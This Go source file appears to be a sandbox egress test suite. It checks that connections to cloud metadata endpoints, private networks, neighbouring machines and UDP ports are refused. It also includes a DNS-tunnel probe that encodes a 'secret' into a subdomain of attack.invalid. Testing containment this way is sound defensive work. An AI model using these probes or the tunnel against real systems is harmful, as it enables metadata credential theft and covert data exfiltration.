package attack

import (
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// atOnce is how long a refusal may take. A busy computer that emulates the CPU needs
// a part of it; what is not answered at all takes minutes.
const atOnce = 10 * time.Second

// refusedConnection expects that a connection is refused, and soon.
func refusedConnection(address string) func(context.Context, Target) (bool, string) {
	return func(ctx context.Context, _ Target) (bool, string) {
		ctx, cancel := context.WithTimeout(ctx, atOnce)
		defer cancel()
		var d net.Dialer
		conn, err := d.DialContext(ctx, "tcp", address)
		if err == nil {
			conn.Close()
			return gotThrough("connected to %s", conn.RemoteAddr())
		}
		if ctx.Err() != nil {
			return gotThrough("no answer in %v", atOnce)
		}
		return refusedBy(err)
	}
}

// addresses aims at addresses.
func addresses(t Target) []attempt {
	list := []attempt{{
		name: "public address without a name", needs: allowlist,
		try: refusedConnection(net.JoinHostPort(t.Public, "443")), trace: traceOf(t.Public),
	}, {
		name: "public address, DNS over TLS", needs: allowlist,
		try: refusedConnection(net.JoinHostPort(t.Public, "853")), trace: traceOf(t.Public),
	}}
	for _, to := range []struct{ what, address string }{
		{"metadata of a cloud", "169.254.169.254:80"},
		{"metadata of a cloud, Azure", "168.63.129.16:80"},
		{"metadata of a cloud, Alibaba", "100.100.100.200:80"},
		{"services of a cloud, IBM", "161.26.0.10:443"},
		{"local network, 10/8", "10.0.0.1:80"},
		{"local network, 172.16/12", "172.16.0.1:443"},
		{"local network, 192.168/16", "192.168.1.1:80"},
		{"carrier's network", "100.64.0.1:80"},
		{"gateway", "192.168.127.1:22"},
		{"other machine", "192.168.127.3:22"},
		{"address of no name", "198.18.255.254:443"},
	} {
		host, _, _ := net.SplitHostPort(to.address)
		list = append(list, attempt{name: to.what, try: refusedConnection(to.address), trace: traceOf(host)})
	}
	for _, address := range t.Inside {
		host, _, _ := net.SplitHostPort(address)
		list = append(list, attempt{name: "this computer or its network: " + address, try: refusedConnection(address), trace: traceOf(host)})
	}
	return append(list, attempt{
		name: "UDP, port 443", trace: traceOf("udp"),
		try: func(ctx context.Context, t Target) (bool, string) { return refusedDatagram(ctx, t.Public+":443") },
	}, attempt{
		name: "UDP, port 123", trace: traceOf("udp"),
		try: func(ctx context.Context, t Target) (bool, string) { return refusedDatagram(ctx, t.Public+":123") },
	})
}

// refusedDatagram expects that UDP is answered by ICMP, and soon.
func refusedDatagram(ctx context.Context, address string) (bool, string) {
	conn, err := net.Dial("udp", address)
	if err != nil {
		return refusedBy(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(atOnce))
	if _, err := conn.Write([]byte("hello")); err != nil {
		return refusedBy(err)
	}
	var b [64]byte
	if _, err = conn.Read(b[:]); err == nil {
		return gotThrough("an answer")
	}
	if netErr, ok := errors.AsType[net.Error](err); ok && netErr.Timeout() {
		return gotThrough("no answer in %v", atOnce)
	}
	return refusedBy(err)
}

// names aims at names.
func names(t Target) []attempt {
	var list []attempt
	for _, name := range append([]string{"metadata.google.internal", "attack.invalid"}, t.Names...) {
		list = append(list, attempt{
			name:  "name: " + name,
			try:   func(ctx context.Context, _ Target) (bool, string) { return unreachableName(ctx, name) },
			trace: func(t Target) string { return ifList(t, name) },
		})
	}
	const secret = "what an agent would like to tell"
	tunnel := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(secret)))[:50] + ".attack.invalid"
	for _, server := range []string{"192.168.127.1", t.Public} {
		for _, network := range []string{"udp", "tcp"} {
			list = append(list, attempt{
				name: fmt.Sprintf("tunnel in names, %s to %s", network, server),
				try: func(ctx context.Context, _ Target) (bool, string) {
					return unknownName(ctx, network, server+":53", tunnel)
				},
				trace: func(t Target) string { return ifList(t, tunnel) },
			})
		}
	}
	return list
}

// ifList returns the trace of a name. Where everything public may be reached, one that
// does not exist is no denial.
func ifList(t Target, name string) string {
	if t.Egress == "public" {
		return ""
	}
	return name
}

// unreachableName expects that a name does not exist, or that its address refuses.
func unreachableName(ctx context.Context, name string) (bool, string) {
	for _, port := range []string{"80", "443", "22"} {
		if refused, how := refusedConnection(net.JoinHostPort(name, port))(ctx, Target{}); !refused {
			return refused, how
		}
	}
	return true, "no such name, or refused"
}

// unknownName asks a server for the text records of a name, and expects that there is
// no such name.
func unknownName(ctx context.Context, network, server, name string) (bool, string) {
	q, err := dnsmessage.NewName(name + ".")
	if err != nil {
		return gotThrough("%v", err)
	}
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 1, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: q, Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassINET}},
	}
	packed, err := m.Pack()
	if err != nil {
		return gotThrough("%v", err)
	}
	var d net.Dialer
	conn, err := d.DialContext(ctx, network, server)
	if err != nil {
		return refusedBy(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(atOnce))
	if network == "tcp" {
		packed = append([]byte{byte(len(packed) >> 8), byte(len(packed))}, packed...)
	}
	if _, err := conn.Write(packed); err != nil {
		return refusedBy(err)
	}
	buf := make([]byte, 4096)
	n, err := conn.Read(buf)
	if err != nil {
		return gotThrough("no answer: %v", err)
	}
	if answer := buf[:n]; network == "tcp" && n > 2 {
		err = m.Unpack(answer[2:])
	} else {
		err = m.Unpack(answer)
	}
	if err != nil {
		return gotThrough("an answer that is none: %v", err)
	}
	if m.RCode != dnsmessage.RCodeNameError || len(m.Answers) > 0 {
		return gotThrough("%v", m.RCode)
	}
	return true, "no such name"
}
